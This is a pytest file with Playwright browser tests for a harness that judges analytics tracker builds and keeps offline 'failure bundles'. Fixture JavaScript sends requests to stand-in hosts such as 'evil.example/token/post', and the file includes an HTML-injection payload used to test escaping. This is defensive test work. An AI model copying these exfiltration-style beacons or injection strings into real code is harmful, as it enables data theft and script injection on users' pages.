"""Failure bundles, opened from disk in a browser that nobody drives but as a person would.

No edge is there, and whatever is no file is aborted and counted: nothing may be asked for.
"""

import dataclasses
import datetime as dt
import gzip
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from packaging.specifiers import SpecifierSet
from playwright.sync_api import Browser, Page, Playwright, Route, expect

from harness import builds
from harness.builds import Chosen
from harness.cli import main
from harness.contracts import built_in, destination, requirement
from harness.driver import Driver, make_world
from harness.edge import assets
from harness.judging import Assessment, Deviation, judge
from harness.model import (
    LIVE,
    Answer,
    Call,
    Conditions,
    Expected,
    ExpectedRequest,
    File,
    Invocations,
    Library,
    Navigation,
    Requests,
    Requirement,
    Role,
    Tracker,
    TrackerScript,
    UsageError,
    Value,
    Visit,
)
from harness.report import failure_bundle
from harness.session import Job, Outcome
from tests.browser import in_firefox
from tests.browser.conftest import AXE, written
from tests.browser.documents import REPOSITORY
from tests.browser.test_plugin import OTHERS, SUITE
from tests.live_hosts import live_hosts

pytestmark = pytest.mark.xdist_group("failures")  # each wrong build is judged once

IDENTIFY = "wishpond-identify-params"
EMAIL = "Wishpond.Tracker.identify arguments[1].email"
DROPS_EMAIL = """
const { identify } = Reference.prototype;
Reference.prototype.identify = function (facade) {
  delete facade.obj.traits.email;
  identify.call(this, facade);
};
module.exports = Reference;
"""

Judged = Callable[..., tuple[Outcome, Chosen]]
Kept = Callable[..., Path]
Open = Callable[..., Page]


@pytest.fixture(scope="module")
def judged(harness_driver: Driver, tmp_path_factory: pytest.TempPathFactory) -> Judged:
    """Judge a wrong build for real: each but once, however many tests look at its bundle."""
    known: dict[tuple[str, str, Library, str], tuple[Outcome, Chosen]] = {}

    def judged_once(
        what: str | Requirement,
        source: str,
        library: Library = "next",
        *,
        tracker: Tracker | None = None,
    ) -> tuple[Outcome, Chosen]:
        key = (repr(what), source, library, repr(tracker))
        if key not in known:
            wanted = requirement(what) if isinstance(what, str) else what
            target = destination(wanted.destination)
            place = written(tmp_path_factory.mktemp("integration") / "build", target, source)
            bundles = builds.from_folder(target, place, str(place))
            recording = harness_driver.record(wanted, library, bundles, tracker=tracker)
            contracts = built_in().with_tracker(target.key, tracker)
            job = Job.of(contracts, wanted, library)
            outcome = Outcome(job, judge(wanted, recording), recording)
            known[key] = outcome, Chosen(contracts, {target.key: bundles})
        return known[key]

    return judged_once


@pytest.fixture
def kept(judged: Judged, tmp_path: Path) -> Kept:
    """Judge a wrong build, and return its bundle's page."""

    def keep(what: str | Requirement, source: str, library: Library = "next") -> Path:
        outcome, chosen = judged(what, source, library)
        assert failure_bundle.is_kept(outcome), outcome.verdict
        return failure_bundle.keep(outcome, chosen, tmp_path / "bundles", show_secrets=False)

    return keep


@pytest.fixture
def opened(reader: Browser) -> Iterator[Open]:
    """Open a bundle's page; a request for anything but a file fails the test."""
    with opening(reader) as open_page:
        yield open_page


@contextmanager
def opening(reader: Browser) -> Iterator[Open]:
    """Open bundles' pages in a person's browser."""
    asked: list[str] = []
    problems: list[str] = []
    contexts = []

    def only_files(route: Route) -> None:
        if route.request.url.startswith("file:"):
            route.continue_()
        else:
            asked.append(route.request.url)
            route.abort()

    def open_page(page: Path) -> Page:
        context = reader.new_context(viewport={"width": 1280, "height": 800})
        contexts.append(context)
        context.route("**/*", only_files)
        shown = context.new_page()
        shown.on("pageerror", lambda problem: problems.append(str(problem)))
        shown.goto(page.as_uri())
        return shown

    yield open_page
    for context in contexts:
        context.close()
    assert asked == []
    assert [problem for problem in problems if "wanted by this test" not in problem] == []


def put_right(page: Path, identifier: str, library: Library) -> None:
    """Put the reference build in the place of the one that failed."""
    wanted = requirement(identifier)
    reference = builds.reference(destination(wanted.destination))
    world = make_world(assets.load(built_in()), wanted, library, reference)
    is_alone = library == "next"
    host, path = "cdn.segment.com", world.bundle_path() if is_alone else world.library_path()
    script = gzip.decompress(world.reply(Role.LIBRARY, host, path).body)
    name = "build.js" if is_alone else "library.js"
    assert (page.parent / "files" / name).read_bytes() != script
    (page.parent / "files" / name).write_bytes(script)


def expect_state(page: Page, words: str) -> None:
    expect(page.locator(".top .state")).to_have_text(words)


def test_failure_shows_from_disk_and_no_more_with_the_right_build(
    kept: Kept, opened: Open, library: Library
) -> None:
    place = kept(IDENTIFY, DROPS_EMAIL, library)
    page = opened(place)
    expect_state(page, "Shows here, too")
    [card] = page.locator(".card").all()
    expect(card.locator(".path")).to_have_text(EMAIL)
    assert card.locator("dd").all_inner_texts() == [
        "'jane.kim@example.com'",
        "(nothing)",
        "(nothing)",
    ]
    expect(page.get_by_role("heading", level=1)).to_have_text(requirement(IDENTIFY).statement)
    expect(page.locator("q")).to_have_text(requirement(IDENTIFY).source.quote)
    expect(page.locator(".event.invocation code")).to_have_text(
        "Wishpond.Tracker.identify('1e810c197e', { name: 'Jane Kim' });"
    )
    put_right(place, IDENTIFY, library)
    page.reload()
    limit = page.get_by_text("after the last call")
    expect(limit).to_have_text(re.compile("^at most [4-9] s after the last call$"))
    expect(limit).to_be_visible()
    expect_state(page, "Does not show here")
    expect(limit).to_be_hidden()
    expect(page.locator(".event.invocation code")).to_contain_text("jane.kim@example.com")


@pytest.fixture(scope="module")
def firefox_reader(readers: Playwright) -> Browser:
    """A Firefox of a person's own, in which no file may read another."""
    found = in_firefox.installed()
    return readers.firefox.launch(
        channel="moz-firefox",
        executable_path=found.executable,
        firefox_user_prefs={"security.fileuri.strict_origin_policy": True},
    )


def test_failure_shows_in_firefox_too(
    kept: Kept, firefox_reader: Browser, library: Library
) -> None:
    place = kept(IDENTIFY, DROPS_EMAIL, library)
    with opening(firefox_reader) as open_page:
        page = open_page(place)
        expect_state(page, "Shows here, too")
        expect(page.locator(".card .path")).to_have_text(EMAIL)
        expect(page.locator(".event.invocation code")).to_have_text(
            "Wishpond.Tracker.identify('1e810c197e', { name: 'Jane Kim' });"
        )
        put_right(place, IDENTIFY, library)
        page.reload()
        expect_state(page, "Does not show here")


def test_difference_in_a_request_is_looked_for_in_its_body(kept: Kept, opened: Open) -> None:
    shouts = """
    const { sendEvent } = Reference.prototype;
    Reference.prototype.sendEvent = function (track) {
      window.wigzo.track(track.event() + "!", {});
    };
    module.exports = Reference;
    """
    page = opened(kept("wigzo-track-name", shouts))
    expect_state(page, "Shows here, too")
    card = page.locator(".card", has_text="body.eventName")
    expect(card.locator(".now")).to_have_text("'Clicked Button!'")
    expect(card.locator(".head b")).to_have_text("shows here, too")
    expect(page.locator(".event.request", has_text="learn/event")).to_contain_text("→ 200")


def test_bodies_of_every_format_are_looked_into(kept: Kept, opened: Open) -> None:
    posts = """
    const { sendEvent } = Reference.prototype;
    const HOST = "https://app.wigzo.com";
    const file = new File(["hello"], "a.txt", { type: "text/plain" });
    function form() {
      const fields = new FormData();
      fields.append("file", file);
      fields.append("value", "1");
      return fields;
    }
    function request(path, body, headers = {}) {
      const made = new XMLHttpRequest();
      made.open("POST", HOST + path);
      for (const name of Object.keys(headers)) made.setRequestHeader(name, headers[name]);
      made.send(body);
    }
    Reference.prototype.sendEvent = function (track) {
      sendEvent.call(this, track);
      fetch(HOST + "/fetched-form", { method: "POST", body: form() });
      request("/requested-form", form());
      request("/latin", new Uint8Array([0x76, 0x3d, 0xe9]), {
        "Content-Type": "application/x-www-form-urlencoded; charset=iso-8859-1",
      });
      navigator.sendBeacon(HOST + "/pairs", new URLSearchParams({ value: "1" }));
      const packed = new Blob(['{"value":1}']).stream();
      new Response(packed.pipeThrough(new CompressionStream("gzip"))).blob().then((body) => {
        request("/packed", body, { "Content-Type": "application/json" });
        fetch(HOST + "/encoded", {
          method: "POST",
          headers: { "Content-Type": "application/json", "Content-Encoding": "gzip" },
          body,
        });
      });
    };
    module.exports = Reference;
    """
    file = File("File", "text/plain", 5, "a.txt", b"hello")
    wrong: dict[str, Value] = {
        "/fetched-form": [["file", file], ["value", "2"]],
        "/requested-form": [["file", file], ["value", "2"]],
        "/latin": [["v", "e"]],
        "/pairs": [["value", "2"]],
        "/packed": {"value": 2},
        "/encoded": {"value": 2},
    }
    formats = dataclasses.replace(
        requirement("wigzo-track-event"),
        expectations=tuple(
            Requests("POST", "app.wigzo.com", path, (ExpectedRequest(parameters=body),))
            for path, body in wrong.items()
        ),
    )
    page = opened(kept(formats, posts))
    expect_state(page, "Shows here, too")
    assert {
        card.locator(".path").text_content(): card.locator(".now").text_content()
        for card in page.locator(".card").all()
    } == {
        "request 1 (POST app.wigzo.com/fetched-form) body[1][1]": "'1'",
        "request 1 (POST app.wigzo.com/requested-form) body[1][1]": "'1'",
        "request 1 (POST app.wigzo.com/latin) body[0][1]": "'é'",
        "request 1 (POST app.wigzo.com/pairs) body[0][1]": "'1'",
        "request 1 (POST app.wigzo.com/packed) body.value": "1",
        "request 1 (POST app.wigzo.com/encoded) body.value": "1",
    }
    assert "a.txt" in page.locator(".event", has_text="/fetched-form").inner_text()


def lanes(page: Page) -> list[str]:
    """Return what happened to the tracker, in order: that it was asked for, called."""
    return page.locator(".stream .event:not(.segment) .kind").all_inner_texts()


def test_calls_are_made_before_the_tracker_is_there(kept: Kept, opened: Open) -> None:
    loses_early = """
    const { identify, track, initialize } = Reference.prototype;
    Reference.prototype.initialize = function () { initialize.call(this); this.ready(); };
    Reference.prototype.identify = function (facade) {
      if (window.Wishpond.Tracker) identify.call(this, facade);
    };
    Reference.prototype.track = function (facade) {
      if (window.Wishpond.Tracker) track.call(this, facade);
    };
    module.exports = Reference;
    """
    place = kept("wishpond-platform-before-tracker", loses_early)
    page = opened(place)
    expect_state(page, "Shows here, too")
    assert lanes(page) == ["request", *["call"] * 5]
    put_right(place, "wishpond-platform-before-tracker", "next")
    page.reload()
    expect_state(page, "Does not show here")
    assert lanes(page) == ["request", *["call"] * 5, *["invocation"] * 5]


def test_a_tracker_that_is_missing_is_missing_here(kept: Kept, opened: Open) -> None:
    throws = """
    const { initialize } = Reference.prototype;
    Reference.prototype.initialize = function () {
      initialize.call(this);
      setTimeout(() => {
        if (!window.Wishpond.Tracker) throw new Error("wanted by this test");
      }, 9);
    };
    module.exports = Reference;
    """
    place = kept("wishpond-platform-tracker-missing", throws, "classic")
    page = opened(place)
    expect_state(page, "Shows here, too")
    expect(page.locator(".stream")).to_contain_text("https://cdn.wishpond.net/connect.js did not")
    put_right(place, "wishpond-platform-tracker-missing", "classic")
    page.reload()
    expect_state(page, "Does not show here")


LOADER = """
const core = document.createElement("script");
core.src = "https://cdn.wishpond.net/v2/core.js";
document.head.append(core);
"""
WAITING = """
fetch("https://cdn.wishpond.net/settings").then((answer) => answer.json()).then(({ groups }) => {
  if (groups[0].key) { STUB }
});
"""


def test_further_scripts_of_a_live_tracker_and_pinned_answers_are_here(
    judged: Judged,
    harness_driver: Driver,
    opened: Open,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    target = destination("wishpond")
    stub = (REPOSITORY / "pages" / "stubs" / target.stub).read_text(encoding="utf-8")
    headers = {"Content-Type": "application/json"}
    tracker = Tracker(
        LIVE,
        LIVE,
        (TrackerScript.of(target.tracker_url, LOADER.encode()),),
        {"https://cdn.wishpond.net/settings": Answer(200, headers, b'{"groups": [{"key": "a"}]}')},
    )
    with live_hosts(tmp_path, "cdn.wishpond.net") as hosts:
        for name, value in hosts.environment.items():
            monkeypatch.setenv(name, value)
        hosts.script("https://cdn.wishpond.net/v2/core.js", WAITING.replace("STUB", stub))
        outcome, chosen = judged(IDENTIFY, DROPS_EMAIL, tracker=tracker)
    place = failure_bundle.keep(
        outcome,
        chosen,
        tmp_path / "bundles",
        show_secrets=False,
        fetched=harness_driver.fetched,
    )
    page = opened(place)
    expect_state(page, "Shows here, too")
    expect(page.locator(".event.invocation code")).to_have_text(
        "Wishpond.Tracker.identify('1e810c197e', { name: 'Jane Kim' });"
    )
    told = page.get_by_text(re.compile("^live [0-9a-f]{12} and 1 more script$"))
    expect(told).to_have_count(1)
    assert "live " in (place.parent / "README.md").read_text(encoding="utf-8")


def test_the_page_finds_of_its_visit_what_a_file_can_have(kept: Kept, opened: Open) -> None:
    """Where it goes, whence it comes, that it gets no cookie, and an answer that comes late."""
    asks = """
    Reference.prototype.track = async () => {
      document.cookie = "mine=1";
      const began = performance.now();
      const answer = await fetch("https://app.wigzo.com/slow", { method: "POST" });
      window.wigzo.track(await answer.text(), {
        waits: performance.now() - began > 900, title: document.title,
        at: document.baseURI, from: document.referrer,
        canonical: document.querySelector("link[rel=canonical]")?.href,
        cookies: [navigator.cookieEnabled, document.cookie.includes("mine")],
      });
    };
    module.exports = Reference;
    """
    cart = "https://shop.example/cart"
    visit = Visit(
        navigations=(Navigation(0, cart, "Cart"),),
        referrer="https://search.example/",
        time_zone="Asia/Tokyo",
        cookies="refused",
        earlier=(Call("track", ("Before",)),),
    )
    answers = {"/slow": (Answer(body=b"late", after=1),)}
    wanted = dataclasses.replace(
        requirement("wigzo-track-event"),
        conditions=Conditions(visit=visit, answers=answers),
        expectations=(Invocations(("wigzo.track",), (Expected("wigzo.track", ("At once",)),)),),
    )
    page = opened(kept(wanted, asks))
    shown = page.locator(".event.invocation code", has_text="late")
    expect(shown).to_be_visible()
    said = shown.inner_text()
    assert "waits: true, title: 'Cart'" in said
    assert said.count(f"'{cart}'") == 2
    assert "from: 'https://search.example/'" in said
    assert "cookies: [false, false]" in said
    notes = page.locator(".notes").inner_text()
    for part in ("an earlier page", "other addresses", "start it with TZ=Asia/Tokyo"):
        assert part in notes


def test_a_page_says_how_long_a_late_tracker_is_waited_for(kept: Kept, opened: Open) -> None:
    late = dataclasses.replace(
        requirement(IDENTIFY), conditions=Conditions(tracker="very late functions")
    )
    page = opened(kept(late, DROPS_EMAIL))
    expect(page.locator(".limit")).to_have_text(
        re.compile("^60 s for a tracker that comes late, then the calls, at most [0-9]+ s after")
    )


def test_a_tracker_can_be_on_the_page_itself(kept: Kept, opened: Open) -> None:
    there = dataclasses.replace(
        requirement(IDENTIFY), conditions=Conditions(tracker="on the page", strict_policy=True)
    )
    page = opened(kept(there, DROPS_EMAIL))
    assert "files/tracker.js" in page.frames[1].content()
    expect_state(page, "Shows here, too")
    expect(page.locator(".event.problem")).to_have_count(0)


def test_what_a_page_sends_stays_in_it_and_is_told(kept: Kept, opened: Open) -> None:
    sends = """
    const { identify } = Reference.prototype;
    Reference.prototype.identify = function (facade) {
      identify.call(this, facade);
      fetch("https://elsewhere.example/fetched", { method: "POST", body: "a=1" }).catch(() => {});
      navigator.sendBeacon("https://elsewhere.example/beacon", "b");
      new Image().src = "https://elsewhere.example/pixel";
      const request = new XMLHttpRequest();
      request.open("GET", "https://elsewhere.example/xhr");
      request.send();
      const script = document.createElement("script");
      script.src = "//elsewhere.example/script.js";
      document.head.append(script);
    };
    module.exports = Reference;
    """
    page = opened(kept(IDENTIFY, sends))
    expect_state(page, "Shows here, too")
    expect(page.locator(".event.refused")).to_have_count(5)
    assert sorted(page.locator(".event.refused code").all_inner_texts()) == [
        "GET https://elsewhere.example/pixel",
        "GET https://elsewhere.example/script.js",
        "GET https://elsewhere.example/xhr",
        "POST https://elsewhere.example/beacon b",
        "POST https://elsewhere.example/fetched a=1",
    ]


def test_each_request_that_nobody_claimed_is_looked_for_once(kept: Kept, opened: Open) -> None:
    sends = """
    const { identify } = Reference.prototype;
    const post = (url) => {
      const headers = { "Content-Type": "application/json" };
      fetch(url, { method: "POST", headers, body: "{}" }).catch(() => {});
    };
    Reference.prototype.identify = function (facade) {
      identify.call(this, facade);
      const isRun = location.protocol === "https:";
      const id = location.protocol;
      if (isRun) post("https://evil.example/token/post");
      new Image().src = `https://evil.example/c?id=${id}`;
      post("https://both.example/preflighted");
      new Image().src = "https://twice.example/pixel";
      if (isRun) setTimeout(() => { new Image().src = "https://twice.example/pixel?again"; });
      new Image().src = `https://each.example/${id}`;
    };
    module.exports = Reference;
    """
    page = opened(kept(IDENTIFY, sends))
    expect_state(page, "3 of 6 differences show here")
    told = {
        card.locator("code.run").text_content(): (
            card.locator(".head b").text_content(),
            card.locator(".now").text_content(),
        )
        for card in page.locator(".card").all()
    }
    shows, gone, unknown = "shows here, too", "does not show here", "cannot be decided here"
    asked = "GET https://each.example/file:"
    assert told == {
        "'OPTIONS https://evil.example/token/post'": (gone, "(nothing)"),
        "'GET https://evil.example/c?id=https:'": (shows, "GET https://evil.example/c?id=file:"),
        "'OPTIONS https://both.example/preflighted'": (
            shows,
            "POST https://both.example/preflighted (here it needs no preflight)",
        ),
        "'GET https://twice.example/pixel'": (shows, "GET https://twice.example/pixel"),
        "'GET https://twice.example/pixel?again'": (gone, "(nothing)"),
        "'GET https://each.example/https:'": (
            unknown,
            f"not seen here, but another request to this host: {asked}",
        ),
    }


def test_what_nothing_stands_in_for_is_kept_from_leaving(kept: Kept, opened: Open) -> None:
    place = kept(IDENTIFY, DROPS_EMAIL)
    tries = """
    document.body.insertAdjacentHTML("beforeend", '<img src="https://elsewhere.example/1">' +
      '<iframe src="https://elsewhere.example/2"></iframe>' +
      '<link rel="stylesheet" href="https://elsewhere.example/3">');
    try { new WebSocket("wss://elsewhere.example/4"); } catch {}
    try { new EventSource("https://elsewhere.example/5"); } catch {}
    import("https://elsewhere.example/6").catch(() => {});
    """
    calls = place.parent / "calls.js"
    calls.write_text(
        calls.read_text().replace(
            "(callback) => analytics", f"() => {{{tries}}}, (callback) => analytics"
        )
    )
    page = opened(place)
    expect_state(page, "Shows here, too")
    problems = page.locator(".event.problem code")
    expect(problems).to_have_count(6)
    blocked = [line.partition(": ")[2] for line in problems.all_inner_texts()]
    assert sorted(blocked) == [
        "connect-src blocked https://elsewhere.example/5",
        "connect-src blocked wss://elsewhere.example/4",
        "frame-src blocked https://elsewhere.example",
        "img-src blocked https://elsewhere.example/1",
        "script-src-elem blocked https://elsewhere.example/6",
        "style-src-elem blocked https://elsewhere.example/3",
    ]


NASTY = "</script><img src=x onerror=\"document.title='hacked'\"><!-- \u2028 \u202e"


def test_no_text_of_a_call_becomes_markup(kept: Kept, opened: Open) -> None:
    nasty = dataclasses.replace(
        requirement(IDENTIFY),
        calls=(Call("identify", ("u-1", {"name": NASTY, "email": "a@example.com"})),),
        expectations=(
            Invocations(
                ("Wishpond.Tracker.identify",),
                (
                    Expected(
                        "Wishpond.Tracker.identify",
                        ("u-1", {"name": NASTY, "email": f"a@example.com{NASTY}"}),
                    ),
                ),
            ),
        ),
    )
    page = opened(kept(nasty, "module.exports = Reference;"))
    expect_state(page, "Shows here, too")
    expect(page.locator(".event.invocation code")).to_contain_text("</script><img src=x onerror=")
    expect(page.locator("img")).to_have_count(0)
    expect(page).to_have_title(f"{IDENTIFY} (next) – failure bundle")
    assert page.frames[1].title() == "Phones and cameras – Example Shop"


def test_calls_can_be_changed(kept: Kept, opened: Open) -> None:
    place = kept(IDENTIFY, DROPS_EMAIL)
    calls = place.parent / "calls.js"
    text = calls.read_text(encoding="utf-8")
    assert text.count("'Jane Kim'") == 1
    calls.write_text(text.replace("'Jane Kim'", "'Somebody Else'"), encoding="utf-8")
    page = opened(place)
    expect(page.locator(".event.invocation")).to_contain_text("Somebody Else")


def test_callbacks_of_calls_run_here(kept: Kept, opened: Open) -> None:
    adds = """
    const { track } = Reference.prototype;
    Reference.prototype.track = function (facade) {
      track.call(this, facade);
      fetch("https://elsewhere.example/").catch(() => {});
    };
    module.exports = Reference;
    """
    place = kept("wishpond-platform-callbacks", adds)
    assert "callback(" in (place.parent / "calls.js").read_text(encoding="utf-8")
    page = opened(place)
    expect_state(page, "Shows here, too")
    expect(page.locator(".event.callback")).to_have_count(2)


def test_what_a_browser_tells_no_page_is_said_to_be_unknown(kept: Kept, opened: Open) -> None:
    rejects = """
    const { identify } = Reference.prototype;
    Reference.prototype.identify = function (facade) {
      identify.call(this, facade);
      setTimeout(() => Promise.reject(new Error("wanted by this test")));
    };
    module.exports = Reference;
    """
    page = opened(kept(IDENTIFY, rejects))
    expect_state(page, "Cannot be decided here")
    expect(page.locator(".card .now")).to_contain_text("their console shows it")


NOTES_STATES = """(state) => {
  window.states = new Promise((resolve) => {
    const seen = [];
    const note = () => seen.push(state.textContent) === 2 && resolve(seen);
    new MutationObserver(note).observe(state, { childList: true });
  });
}"""


def test_each_run_begins_clean(kept: Kept, opened: Open) -> None:
    page = opened(kept(IDENTIFY, DROPS_EMAIL))
    expect_state(page, "Shows here, too")
    frame = page.frames[1]
    assert "ajs_user_id" in frame.evaluate("Object.keys(localStorage)")
    assert "ajs_user_id" in frame.evaluate("document.cookie")
    again = page.get_by_role("button", name="Run again")
    for _ in range(20):
        if again.evaluate("button => button === document.activeElement"):
            break
        page.keyboard.press("Tab")
    expect(again).to_be_focused()
    # It may be checked in no time: so each state is noted in the page.
    page.locator(".top .state").evaluate(NOTES_STATES)
    page.keyboard.press("Enter")
    assert page.evaluate("states") == ["Checking …", "Shows here, too"]
    expect(page.locator(".event.invocation")).to_have_count(1)
    page.goto("about:blank")
    page.goto(kept(IDENTIFY, DROPS_EMAIL).as_uri())
    assert page.evaluate("localStorage.length") == 0


LOOKS = [("dark", 1280, ["color-contrast"]), ("light", 1280, []), ("light", 390, [])]
"""Colours, how wide the page is, and the rules that axe looks for; none for all of them."""


def test_axe_finds_nothing_and_nothing_is_too_wide(kept: Kept, opened: Open) -> None:
    page = opened(kept(IDENTIFY, DROPS_EMAIL))
    expect_state(page, "Shows here, too")
    parts = (page.locator(".card"), page.locator("h1"), page.locator(".top .state"))
    for width in (390, 1280):
        page.set_viewport_size({"width": width, "height": 844 if width == 390 else 800})
        for part in parts:
            expect(part).to_be_in_viewport(ratio=1)
    for summary in page.locator("summary").all():
        summary.click()
    page.evaluate(AXE)
    for scheme, width, rules in LOOKS:
        page.set_viewport_size({"width": width, "height": 800})
        page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
        only = {"runOnly": rules} if rules else {}
        result = page.evaluate(
            "options => axe.run(document, options)",
            {"resultTypes": ["violations"], "iframes": False, **only},
        )
        assert result["passes"], "axe looked at nothing"
        assert [(rule["id"], rule["nodes"][0]["html"]) for rule in result["violations"]] == []
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_only_a_fail_that_is_not_known_has_a_bundle(judged: Judged) -> None:
    outcome, _ = judged(IDENTIFY, "module.exports = Reference;")
    assert not failure_bundle.is_kept(outcome)
    red, _ = judged(IDENTIFY, DROPS_EMAIL)
    assert failure_bundle.is_kept(red)
    entry = Deviation(
        requirement=IDENTIFY,
        library="next",
        path="*",
        reason="wanted by this test",
        link="https://example.com",
        expires=dt.date(2999, 1, 1),
        place="known.toml:1",
        build="reference",
        versions=SpecifierSet(),
    )
    known = dataclasses.replace(red, assessment=Assessment((entry,), ()))
    assert not failure_bundle.is_kept(known)


def test_what_is_no_bundle_is_never_replaced(kept: Kept, tmp_path: Path) -> None:
    first = kept(IDENTIFY, DROPS_EMAIL)
    (first.parent / "old.txt").touch()
    assert kept(IDENTIFY, DROPS_EMAIL) == first
    assert not (first.parent / "old.txt").exists()
    assert [path.name for path in (tmp_path / "bundles").iterdir()] == [f"{IDENTIFY}-next"]
    (first.parent / "failure-data.js").unlink()
    with pytest.raises(UsageError, match="is not a failure bundle"):
        kept(IDENTIFY, DROPS_EMAIL)
    assert (first.parent / "index.html").is_file()


def test_tokens_of_contracts_of_ones_own_are_masked(
    judged: Judged, tmp_path: Path, opened: Open
) -> None:
    outcome, chosen = judged(IDENTIFY, DROPS_EMAIL)
    outcome = dataclasses.replace(outcome, job=dataclasses.replace(outcome.job, folder=tmp_path))
    secret = b"e3b0c44298fc"
    place = failure_bundle.keep(outcome, chosen, tmp_path / "masked", show_secrets=False)
    assert not [file for file in place.parent.rglob("*.*") if secret in file.read_bytes()]
    page = opened(place)
    expect_state(page, "Shows here, too")
    expect(page.get_by_role("note")).to_contain_text("Tokens and keys are masked")
    shown = failure_bundle.keep(outcome, chosen, tmp_path / "shown", show_secrets=True)
    assert secret in (shown.parent / "answers.js").read_bytes()
    assert "made up" not in shown.with_name("README.md").read_text(encoding="utf-8")
    page = opened(shown)
    page.get_by_text("The run", exact=True).click()
    expect(page.locator(".facts")).to_contain_text(secret.decode())
    expect(page.locator(".facts")).not_to_contain_text("made up")


def test_the_account_of_a_bundle_is_said_to_be_made_up(kept: Kept, opened: Open) -> None:
    place = kept(IDENTIFY, DROPS_EMAIL)
    assert "account: made up" in place.with_name("README.md").read_text(encoding="utf-8")
    page = opened(place)
    page.get_by_text("The run", exact=True).click()
    told = page.locator(".facts")
    expect(told).to_contain_text("e3b0c44298fc")
    expect(told).to_contain_text("made up for the harness: its tokens and keys open nothing")


@pytest.mark.usefixtures("shared_browser")
def test_check_keeps_bundles_and_tells_where(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    written(tmp_path / "wrong", "wishpond", DROPS_EMAIL)
    monkeypatch.chdir(tmp_path)
    options = ("--library", "next", "--build", "wishpond=wrong", "--bundle", "bundles")
    assert main.main(["run", IDENTIFY, *options]) == 1
    place = f"bundles/{IDENTIFY}-next/index.html"
    assert f"kept {place}" in capsys.readouterr().err
    assert Path(place).is_file()
    assert main.main(["run", "wishpond-track-params", *options]) == 0
    assert [path.name for path in Path("bundles").iterdir()] == [f"{IDENTIFY}-next"]


@pytest.mark.usefixtures("shared_browser")
def test_plugin_keeps_bundles_and_its_report_links_to_them(
    pytester: pytest.Pytester, reader: Browser
) -> None:
    pytester.makepyfile(test_wishpond=SUITE)
    written(pytester.path / "wrong", "wishpond", DROPS_EMAIL)
    done = pytester.runpytest_inprocess(
        *("--library", "next", "-k", "identify-params", "--build", "wishpond=wrong"),
        *("--harness-bundle", "bundles", "--harness-results", "results"),
    )
    done.assert_outcomes(failed=1, deselected=OTHERS)
    place = f"bundles/{IDENTIFY}-next/index.html"
    done.stdout.fnmatch_lines([f"*kept * {place}"])
    assert (pytester.path / place).is_file()
    page = reader.new_page()
    page.goto((pytester.path / "results" / "report.html").as_uri())
    page.get_by_role("link", name="The whole verdict").click()
    link = page.get_by_role("link", name=f"failure bundle: {IDENTIFY}-next")
    expect(link).to_have_attribute("href", f"../{place}")
    page.close()
